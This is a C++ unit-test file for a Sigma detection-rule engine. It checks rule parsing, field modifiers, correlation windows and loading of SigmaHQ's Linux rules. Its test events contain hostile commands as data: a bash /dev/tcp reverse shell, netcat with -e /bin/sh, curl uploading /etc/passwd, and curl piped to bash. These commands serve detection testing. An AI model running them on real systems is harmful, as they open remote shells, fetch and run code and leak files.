// The Sigma engine on its own: rules compiled from YAML written here, positive and
// negative events built from each rule, correlation windows across hosts, and (when the
// reference data is present) every rule of SigmaHQ's Linux set loaded.
#include "aggregator/rules/sigma.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <iostream>
#include <map>

#include "aggregator/rules/condition.h"
#include "common/clock.h"

namespace tripline::rules {
namespace {

constexpr int64_t kT0 = 1'800'000'000'000'000'000;

Event Exec(const std::string& filename, std::vector<std::string> argv,
           const std::string& host = "hostb", int64_t t = kT0, uint32_t pid = 100,
           uint32_t ppid = 1) {
  Event e;
  e.host = host;
  e.time_ns = t;
  e.session = "audit:7";
  e.process.tgid = pid;
  e.process.pid = pid;
  e.process.ppid = ppid;
  e.process.user = "alice";
  e.process.exe = filename;
  ExecEvent x;
  x.filename = filename;
  x.argv = std::move(argv);
  e.body = x;
  return e;
}

Event Open(const std::string& path, FileAccess access, const std::string& host = "hostb") {
  Event e;
  e.host = host;
  e.time_ns = kT0;
  e.process.exe = "/usr/bin/tee";
  FileOpenEvent f;
  f.path = path;
  f.access = access;
  e.body = f;
  return e;
}

Event Connect(const std::string& addr, uint32_t port) {
  Event e;
  e.host = "hostb";
  e.time_ns = kT0;
  e.process.exe = "/usr/bin/nc";
  NetConnectEvent n;
  n.direction = NetDirection::kOutbound;
  n.local_addr = "198.18.0.2";
  n.local_port = 40000;
  n.remote_addr = addr;
  n.remote_port = port;
  e.body = n;
  return e;
}

Event Login(const std::string& user, const std::string& from, Outcome outcome,
            const std::string& host, int64_t t) {
  Event e;
  e.host = host;
  e.time_ns = t;
  LoginEvent l;
  l.service = "sshd";
  l.user = user;
  l.remote_addr = from;
  l.outcome = outcome;
  e.body = l;
  return e;
}

std::shared_ptr<const RuleSet> Compile(const std::string& yaml, const std::string& file = "t.yml") {
  return CompileRules({{file, yaml}});
}

const RuleInfo& Only(const RuleSet& set) {
  static std::vector<RuleInfo> keep;
  keep = DescribeRules(set);
  EXPECT_EQ(keep.size(), 1u);
  return keep.front();
}

std::vector<std::string> Titles(RuleEngine& engine, const Event& e) {
  std::vector<std::string> out;
  for (const Detection& d : engine.Evaluate(e)) out.push_back(d.title);
  return out;
}

std::string Rule(const std::string& title, const std::string& logsource,
                 const std::string& detection, const std::string& level = "high") {
  return "title: " + title + "\nid: " + title + "\nlevel: " + level +
         "\ntags:\n  - attack.execution\n  - attack.t1059.004\nlogsource:\n" + logsource +
         "detection:\n" + detection;
}

const char* kProc = "  product: linux\n  category: process_creation\n";

TEST(SigmaCondition, Grammar) {
  for (const char* ok : {"a", "a and b", "a or b and not c", "(a or b) and not (c)", "1 of sel*",
                         "all of them", "any of x? and not 1 of filter_*", "not not a"}) {
    EXPECT_TRUE(ParseCondition(ok).ok()) << ok;
  }
  for (const char* bad : {"", "a and", "(a", "a b", "and", "1 of", "a )", "a & b", "of x"}) {
    EXPECT_FALSE(ParseCondition(bad).ok()) << bad;
  }
  EXPECT_EQ(ParseCondition("sel | count() by x > 5").status().code(), Status::Code::kUnsupported);
  std::string deep(200, '(');
  EXPECT_FALSE(ParseCondition(deep + "a" + std::string(200, ')')).ok());
  EXPECT_TRUE(MatchNamePattern("sel*", "selection_1"));
  EXPECT_FALSE(MatchNamePattern("sel?", "selection"));
}

TEST(SigmaRules, ModifiersAndWildcards) {
  RuleEngine engine;
  engine.Swap(Compile(Rule("mods", kProc, R"(
  sel_img:
    Image|endswith: '/curl'
  sel_cli:
    CommandLine|contains|all:
      - ' -F '
      - '@/etc/'
  sel_start:
    CommandLine|startswith: 'CURL '
  sel_wild:
    CommandLine: '*upload?php*'
  condition: sel_img and (sel_cli or sel_start) and sel_wild
)")));
  EXPECT_EQ(Titles(engine,
                   Exec("/usr/bin/curl", {"curl", "-F", "f=@/etc/passwd", "http://x/upload.php"})),
            std::vector<std::string>{"mods"});
  // Case-insensitive by default.
  EXPECT_EQ(Titles(engine, Exec("/USR/BIN/CURL", {"CURL", "http://x/UPLOAD_PHP"})).size(), 1u);
  // |all: one value missing.
  EXPECT_TRUE(
      Titles(engine, Exec("/usr/bin/curl", {"xcurl", "-F", "x", "http://x/upload.php"})).empty());
  EXPECT_TRUE(
      Titles(engine, Exec("/usr/bin/wget", {"curl", "-F", "@/etc/x", "upload.php"})).empty());
}

TEST(SigmaRules, ReCidrBase64NullExistsNumbers) {
  RuleEngine engine;
  engine.Swap(CompileRules({
      {"re.yml", Rule("re", kProc, R"(
  sel:
    CommandLine|re: 'bash -i >& /dev/tcp/[0-9.]+/[0-9]+'
  condition: sel
)")},
      {"b64.yml", Rule("b64", kProc, R"(
  sel:
    CommandLine|base64offset|contains: 'curl http'
  condition: sel
)")},
      {"cidr.yml", Rule("cidr", "  product: linux\n  category: network_connection\n", R"(
  sel:
    DestinationIp|cidr: '203.0.113.0/24'
    DestinationPort|gte: 4000
    Initiated: 'true'
  filter:
    Image: null
  condition: sel and not filter
)")},
      {"exists.yml", Rule("exists", kProc, R"(
  sel:
    Image|endswith: '/sh'
    ParentImage|exists: true
  condition: sel
)")},
  }));
  EXPECT_EQ(
      Titles(engine, Exec("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"})),
      std::vector<std::string>{"re"});
  // re is case-sensitive.
  EXPECT_TRUE(Titles(engine, Exec("/bin/bash", {"BASH -I >& /dev/tcp/10.0.0.1/4444"})).empty());
  // "curl http" base64-encoded at each of the three offsets.
  for (const char* enc :
       {"Y3VybCBodHRwOi8vZXZpbA==", "IGN1cmwgaHR0cDovL2V2aWw=", "ICBjdXJsIGh0dHA6Ly9ldmls"}) {
    EXPECT_EQ(Titles(engine, Exec("/bin/sh", {"sh", "-c", std::string("echo ") + enc})),
              std::vector<std::string>{"b64"})
        << enc;
  }
  EXPECT_EQ(Titles(engine, Connect("203.0.113.9", 4444)), std::vector<std::string>{"cidr"});
  EXPECT_TRUE(Titles(engine, Connect("203.0.114.9", 4444)).empty());
  EXPECT_TRUE(Titles(engine, Connect("203.0.113.9", 22)).empty());
  Event no_image = Connect("203.0.113.9", 4444);
  no_image.process.exe.clear();
  EXPECT_TRUE(Titles(engine, no_image).empty());
  // ParentImage exists only when the parent's exec was seen.
  EXPECT_TRUE(Titles(engine, Exec("/bin/sh", {"sh"}, "hostb", kT0, 201, 200)).empty());
  Titles(engine, Exec("/usr/bin/python3", {"python3", "x.py"}, "hostb", kT0, 300, 1));
  EXPECT_EQ(Titles(engine, Exec("/bin/sh", {"sh"}, "hostb", kT0, 301, 300)),
            std::vector<std::string>{"exists"});
}

TEST(SigmaRules, ParentFieldsFromTheParentsExec) {
  RuleEngine engine;
  engine.Swap(Compile(Rule("java child", kProc, R"(
  selection:
    ParentImage|endswith: '/java'
    ParentCommandLine|contains: 'tomcat'
    Image|endswith:
      - '/sh'
      - '/bash'
  condition: selection
)")));
  Titles(engine,
         Exec("/usr/lib/jvm/bin/java", {"java", "-jar", "tomcat.jar"}, "hostb", kT0, 50, 1));
  EXPECT_EQ(Titles(engine, Exec("/bin/bash", {"bash"}, "hostb", kT0, 51, 50)).size(), 1u);
  // Same pid on another host: a different process.
  EXPECT_TRUE(Titles(engine, Exec("/bin/bash", {"bash"}, "hostc", kT0, 51, 50)).empty());
}

TEST(SigmaRules, ConditionsOverSelections) {
  RuleEngine engine;
  engine.Swap(Compile(Rule("conds", kProc, R"(
  sel_a:
    Image|endswith: '/nc'
  sel_b:
    CommandLine|contains: ' -e '
  sel_c:
    CommandLine|contains: ' -c '
  filter_x:
    User: 'root'
  filter_y:
    CommandLine|contains: 'localhost'
  condition: sel_a and 1 of sel_b, sel_c and not 1 of filter_*
)")));
  EXPECT_EQ(Only(*Compile(Rule("conds", kProc, R"(
  sel_a:
    Image|endswith: '/nc'
  condition: sel_a and 1 of sel_b, sel_c
)")))
                .state,
            RuleState::kBroken);
  RuleEngine e2;
  e2.Swap(Compile(Rule("c2", kProc, R"(
  sel_a:
    Image|endswith: '/nc'
  sel_b:
    CommandLine|contains: ' -e '
  sel_c:
    CommandLine|contains: ' -c '
  filter_x:
    User: 'root'
  filter_y:
    CommandLine|contains: 'localhost'
  condition: sel_a and 1 of sel_* and not 1 of filter_*
)")));
  EXPECT_EQ(Titles(e2, Exec("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4"})).size(), 1u);
  EXPECT_TRUE(Titles(e2, Exec("/bin/nc", {"nc", "-e", "/bin/sh", "localhost"})).empty());
  Event root = Exec("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4"});
  root.process.user = "root";
  EXPECT_TRUE(Titles(e2, root).empty());
  RuleEngine e3;
  e3.Swap(Compile(Rule("c3", kProc, R"(
  sel_a:
    Image|endswith: '/nc'
  sel_b:
    CommandLine|contains: ' -e '
  condition: all of sel_*
)")));
  EXPECT_EQ(Titles(e3, Exec("/bin/nc", {"nc", "-e", "x"})).size(), 1u);
  EXPECT_TRUE(Titles(e3, Exec("/bin/nc", {"nc", "-l", "x"})).empty());
  RuleEngine e4;
  e4.Swap(Compile(Rule("c4", kProc, R"(
  one:
    Image|endswith: '/nc'
  two:
    - CommandLine|contains: 'zzz'
    - User: 'bob'
  condition: all of them
)")));
  Event bob = Exec("/bin/nc", {"nc"});
  bob.process.user = "bob";
  EXPECT_EQ(Titles(e4, bob).size(), 1u);
  EXPECT_TRUE(Titles(e4, Exec("/bin/nc", {"nc"})).empty());
}

TEST(SigmaRules, AuditdExecveAndKeywords) {
  RuleEngine engine;
  engine.Swap(Compile(Rule("pad", "  product: linux\n  service: auditd\n", R"(
  selection_execve:
    type: 'EXECVE'
  keywords_truncate:
    '|all':
      - 'truncate'
      - '-s'
  keywords_dd:
    '|all':
      - 'dd'
      - 'if='
  keywords_filter:
    - 'of='
  condition: selection_execve and (keywords_truncate or (keywords_dd and not keywords_filter))
)")));
  EXPECT_EQ(Titles(engine, Exec("/usr/bin/truncate", {"truncate", "-s", "+5", "f"})).size(), 1u);
  EXPECT_EQ(Titles(engine, Exec("/bin/dd", {"dd", "if=/dev/zero"})).size(), 1u);
  EXPECT_TRUE(Titles(engine, Exec("/bin/dd", {"dd", "if=/dev/zero", "of=x"})).empty());
  RuleEngine args;
  args.Swap(Compile(Rule("args", "  product: linux\n  service: auditd\n", R"(
  cmd:
    type: 'EXECVE'
    a0|endswith: 'iptables'
    a1: '-t'
    a2: 'nat'
  condition: cmd
)")));
  EXPECT_EQ(Titles(args, Exec("/sbin/iptables", {"/sbin/iptables", "-t", "nat", "-D"})).size(), 1u);
  EXPECT_TRUE(Titles(args, Exec("/sbin/iptables", {"/sbin/iptables", "-t", "filter"})).empty());
  // Other auditd record types are not captured: unsupported, with the reason.
  const RuleInfo& sys = Only(*Compile(Rule("sys", "  product: linux\n  service: auditd\n", R"(
  sel:
    type: 'SYSCALL'
    exe|endswith: '/x'
  condition: sel
)")));
  EXPECT_EQ(sys.state, RuleState::kUnsupported);
  EXPECT_NE(sys.reason.find("SYSCALL"), std::string::npos) << sys.reason;
}

TEST(SigmaRules, FileEventsAndLogins) {
  RuleEngine engine;
  engine.Swap(CompileRules({
      {"f.yml", Rule("sudoers", "  product: linux\n  category: file_event\n", R"(
  sel:
    TargetFilename|startswith: '/etc/sudoers.d/'
  condition: sel
)")},
      {"l.yml", Rule("root login", "  product: linux\n  service: sshd\n", R"(
  sel:
    User: root
    Outcome: success
    SourceIp|cidr: 198.18.0.0/15
  condition: sel
)")},
  }));
  EXPECT_EQ(Titles(engine, Open("/etc/sudoers.d/evil", FileAccess::kWrite)).size(), 1u);
  // file_event is a creation or write; a read is not one.
  EXPECT_TRUE(Titles(engine, Open("/etc/sudoers.d/evil", FileAccess::kRead)).empty());
  EXPECT_EQ(Titles(engine, Login("root", "198.18.0.9", Outcome::kSuccess, "hosta", kT0)).size(),
            1u);
  EXPECT_TRUE(Titles(engine, Login("root", "198.18.0.9", Outcome::kFailure, "hosta", kT0)).empty());
}

TEST(SigmaRules, UnsupportedAndBrokenAreReportedNotRun) {
  auto set = CompileRules({
      {"cwd.yml", Rule("cwd", kProc, "  sel:\n    CurrentDirectory: /tmp\n  condition: sel\n")},
      {"win.yml", Rule("win", "  product: windows\n  category: process_creation\n",
                       "  sel:\n    Image: x\n  condition: sel\n")},
      {"agg.yml", Rule("agg", kProc, "  sel:\n    Image: x\n  condition: sel | count() > 5\n")},
      {"mod.yml", Rule("mod", kProc, "  sel:\n    Image|bogus: x\n  condition: sel\n")},
      {"yaml.yml", "title: x\ndetection:\n  sel: [unclosed\n"},
      {"cond.yml", Rule("cond", kProc, "  sel:\n    Image: x\n  condition: sel and nope\n")},
      {"ok.yml", Rule("ok", kProc, "  sel:\n    Image: x\n  condition: sel\n")},
      // Broken wins over unsupported: the author learns of the mistake either way.
      {"winbad.yml", Rule("winbad", "  product: windows\n  category: process_creation\n",
                          "  sel:\n    Image|bogus: x\n  condition: sel\n")},
      {"cwdbad.yml",
       Rule("cwdbad", kProc, "  a:\n    CurrentDirectory: /tmp\n  condition: a and b\n")},
  });
  std::map<std::string, RuleInfo> by_file;
  for (const RuleInfo& r : DescribeRules(*set)) by_file[r.file] = r;
  EXPECT_EQ(by_file["cwd.yml"].state, RuleState::kUnsupported);
  EXPECT_NE(by_file["cwd.yml"].reason.find("working directory"), std::string::npos);
  EXPECT_EQ(by_file["win.yml"].state, RuleState::kUnsupported);
  EXPECT_EQ(by_file["agg.yml"].state, RuleState::kUnsupported);
  EXPECT_EQ(by_file["mod.yml"].state, RuleState::kBroken);
  EXPECT_EQ(by_file["mod.yml"].line, 12);  // the line of the field with the bad modifier
  EXPECT_EQ(by_file["yaml.yml"].state, RuleState::kBroken);
  EXPECT_GT(by_file["yaml.yml"].line, 0);
  EXPECT_EQ(by_file["cond.yml"].state, RuleState::kBroken);
  EXPECT_EQ(by_file["ok.yml"].state, RuleState::kLoaded);
  RuleCounts c = CountRules(*set);
  EXPECT_EQ(c.loaded, 1u);
  EXPECT_EQ(c.unsupported, 3u);
  EXPECT_EQ(c.broken, 5u);
  EXPECT_EQ(by_file["winbad.yml"].state, RuleState::kBroken);
  EXPECT_EQ(by_file["cwdbad.yml"].state, RuleState::kBroken);
  // The unsupported rule never runs, not even the part that could.
  RuleEngine engine;
  engine.Swap(set);
  Event e = Exec("x", {"x"});
  EXPECT_EQ(Titles(engine, e), std::vector<std::string>{"ok"});
}

TEST(SigmaRules, DocumentsOfOneFileKeepTheirLinesAndAMalformedStreamEnds) {
  // Three documents: directives and a comment before the first, an explicit end marker after
  // the second, and a bad modifier in the third.
  const std::string second = Rule("two", kProc, "  sel:\n    Image: y\n  condition: sel\n");
  const std::string third = Rule("three", kProc, "  sel:\n    Image|bogus: z\n  condition: sel\n");
  const std::string file = "%YAML 1.2\n# rules\n---\n" +
                           Rule("one", kProc, "  sel:\n    Image: x\n  condition: sel\n") +
                           "---\n" + second + "...\n---\n" + third;
  auto set = CompileRules({{"multi.yml", file}});
  std::vector<RuleInfo> rules = DescribeRules(*set);
  ASSERT_EQ(rules.size(), 3u);
  std::map<std::string, RuleInfo> by_id;
  for (const RuleInfo& r : rules) by_id[r.id] = r;
  EXPECT_EQ(by_id["one"].state, RuleState::kLoaded);
  EXPECT_EQ(by_id["one"].line, 4);
  EXPECT_EQ(by_id["two"].state, RuleState::kLoaded);
  const int lines_of_rule = static_cast<int>(std::count(second.begin(), second.end(), '\n'));
  EXPECT_EQ(by_id["two"].line, 4 + lines_of_rule + 1);
  ASSERT_EQ(by_id["three"].state, RuleState::kBroken);
  // The bad modifier's line, counted from the top of the file.
  EXPECT_EQ(by_id["three"].line, 4 + 2 * (lines_of_rule + 1) + 1 + 11);
  // A stream yaml-cpp's LoadAll never finishes; compiling it ends with a broken rule.
  auto odd = CompileRules({{"odd.yml", ",teiteitvi"}});
  ASSERT_EQ(DescribeRules(*odd).size(), 1u);
  EXPECT_EQ(DescribeRules(*odd)[0].state, RuleState::kBroken);
}

std::string Base(const std::string& name, const std::string& image) {
  return "title: " + name + "\nid: " + name + "\nname: " + name + "\nlevel: medium\n" +
         "logsource:\n  product: linux\n  category: process_creation\n" +
         "detection:\n  sel:\n    Image|endswith: '" + image + "'\n  condition: sel\n";
}

TEST(SigmaCorrelation, EventCountAcrossHostsOutOfOrder) {
  RuleEngine engine;
  engine.Swap(CompileRules({{"c.yml", Base("whoami", "/whoami") + R"(---
title: whoami on many hosts
id: corr-count
level: high
correlation:
  type: event_count
  rules: [whoami]
  group-by: [User]
  timespan: 1m
  condition:
    gte: 3
)"}}));
  // Base rule hits are not reported on their own (generate: false by default).
  auto ev = [&](const std::string& host, int64_t s) {
    return engine.Evaluate(Exec("/usr/bin/whoami", {"whoami"}, host, kT0 + s * kNanosPerSecond));
  };
  EXPECT_TRUE(ev("hosta", 0).empty());
  EXPECT_TRUE(ev("hostb", 50).empty());
  // Arrives late, but inside the window of the other two.
  auto d = ev("hostc", 20);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "corr-count");
  EXPECT_TRUE(d[0].correlation);
  EXPECT_EQ(d[0].host, "hostc");
  // Outside a 1-minute window: three hits 70 s apart never fire.
  EXPECT_TRUE(ev("hosta", 1000).empty());
  EXPECT_TRUE(ev("hostb", 1070).empty());
  EXPECT_TRUE(ev("hostc", 1140).empty());
  for (const RuleInfo& r : engine.Rules()) {
    if (r.id == "corr-count") {
      EXPECT_EQ(r.hits, 1u);
    }
    if (r.id == "whoami") {
      EXPECT_EQ(r.hits, 6u);
    }
  }
}

TEST(SigmaCorrelation, ValueCountAndTemporal) {
  RuleEngine engine;
  engine.Swap(CompileRules({{"c.yml", Base("id", "/id") + "---\n" + Base("uname", "/uname") +
                                          "---\n" + Base("curl", "/curl") + R"(---
title: id on distinct hosts
id: corr-values
level: high
correlation:
  type: value_count
  rules: [id]
  group-by: [User]
  timespan: 5m
  condition:
    field: Host
    gte: 2
---
title: recon then download
id: corr-ordered
correlation:
  type: temporal_ordered
  rules: [uname, curl]
  group-by: [User]
  timespan: 2m
---
title: uname and curl together
id: corr-temporal
correlation:
  type: temporal
  rules: [curl, uname]
  group-by: [User, Host]
  timespan: 2m
)"}}));
  auto titles = [&](const std::string& img, const std::string& host, int64_t s) {
    std::vector<std::string> out;
    for (const Detection& d :
         engine.Evaluate(Exec("/usr/bin/" + img, {img}, host, kT0 + s * kNanosPerSecond))) {
      out.push_back(d.rule_id);
    }
    return out;
  };
  EXPECT_TRUE(titles("id", "hosta", 0).empty());
  EXPECT_TRUE(titles("id", "hosta", 1).empty());  // same host again: one value
  EXPECT_EQ(titles("id", "hostb", 2), std::vector<std::string>{"corr-values"});
  // curl before uname (by event time, though it arrives later) is not the order asked for;
  // both on one host within 2 min is "temporal".
  EXPECT_TRUE(titles("uname", "hosta", 100).empty());
  EXPECT_EQ(titles("curl", "hosta", 90), std::vector<std::string>{"corr-temporal"});
  // uname on hosta, then curl on hostc: ordered across hosts (group-by User only).
  EXPECT_TRUE(titles("uname", "hosta", 500).empty());
  EXPECT_EQ(titles("curl", "hostc", 530), std::vector<std::string>{"corr-ordered"});
}

TEST(SigmaCorrelation, BadCorrelations) {
  auto set = CompileRules({{"c.yml", Base("a", "/a") + R"(---
title: missing ref
id: c1
correlation:
  type: event_count
  rules: [nope]
  timespan: 1m
  condition: {gte: 2}
---
title: bad span
id: c2
correlation:
  type: event_count
  rules: [a]
  timespan: forever
  condition: {gte: 2}
---
title: bad group
id: c3
correlation:
  type: event_count
  rules: [a]
  group-by: [DestinationIp]
  timespan: 1m
  condition: {gte: 2}
)"}});
  std::map<std::string, RuleInfo> by_id;
  for (const RuleInfo& r : DescribeRules(*set)) by_id[r.id] = r;
  EXPECT_EQ(by_id["a"].state, RuleState::kLoaded);
  EXPECT_EQ(by_id["c1"].state, RuleState::kBroken);
  EXPECT_EQ(by_id["c2"].state, RuleState::kBroken);
  EXPECT_EQ(by_id["c3"].state, RuleState::kUnsupported);
}

TEST(SigmaRules, ReloadSwapsAtomically) {
  RuleEngine engine("/nonexistent/rules");
  EXPECT_FALSE(engine.Reload().ok());
  engine.Swap(Compile(Base("a", "/a")));
  EXPECT_EQ(engine.Rules().size(), 1u);
  EXPECT_EQ(engine.Evaluate(Exec("/bin/a", {"a"})).size(), 1u);
  engine.Swap(Compile(Base("b", "/b")));
  EXPECT_TRUE(engine.Evaluate(Exec("/bin/a", {"a"})).empty());
  EXPECT_EQ(engine.Evaluate(Exec("/bin/b", {"b"})).size(), 1u);
}

#ifndef TRIPLINE_WITHOUT_SHARED_DATA
// Every rule of SigmaHQ's Linux set (../shared/data/sigma, read where it exists).
TEST(SigmaCorpus, EveryLinuxRuleLoadsOrSaysWhy) {
  const std::string dir = std::string(TRIPLINE_SHARED_DATA) + "/sigma";
  auto start = std::chrono::steady_clock::now();
  auto set = LoadRuleDirectory(dir);
  ASSERT_TRUE(set.ok()) << set.status().ToString();
  auto infos = DescribeRules(**set);
  RuleCounts c = CountRules(**set);
  std::map<std::string, int> reasons;
  for (const RuleInfo& r : infos) {
    if (r.state == RuleState::kLoaded) continue;
    EXPECT_FALSE(r.reason.empty()) << r.file;
    std::string key = std::string(RuleStateName(r.state)) + ": " + r.reason;
    if (key.size() > 110) key = key.substr(0, 110);
    ++reasons[key];
  }
  std::cout << "sigma rules: " << infos.size() << " total, " << c.loaded << " loaded, "
            << c.unsupported << " unsupported, " << c.broken << " broken\n";
  for (const auto& [why, n] : reasons) std::cout << "  " << n << " x " << why << "\n";
  EXPECT_EQ(infos.size(), 214u);
  EXPECT_EQ(c.broken, 0u);
  // SigmaHQ at ../shared/data/sigma/UPSTREAM_COMMIT; docs/sigma.md lists the reasons.
  EXPECT_EQ(c.loaded, 162u);
  EXPECT_EQ(c.unsupported, 52u);
  // Every loaded rule runs on every kind of event without crashing or hanging.
  RuleEngine engine;
  engine.Swap(*set);
  std::vector<Event> events = {
      Exec("/bin/bash", {"bash", "-c", "curl http://x/a.sh | bash"}),
      Exec("/usr/bin/python3", {"python3", "-c", "import pty;pty.spawn('/bin/sh')"}),
      Open("/etc/sudoers.d/x", FileAccess::kWrite), Connect("203.0.113.5", 4444),
      Login("root", "198.18.0.9", Outcome::kSuccess, "hosta", kT0)};
  for (const Event& e : events) engine.Evaluate(e);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(20));
}
#endif

}  // namespace
}  // namespace tripline::rules
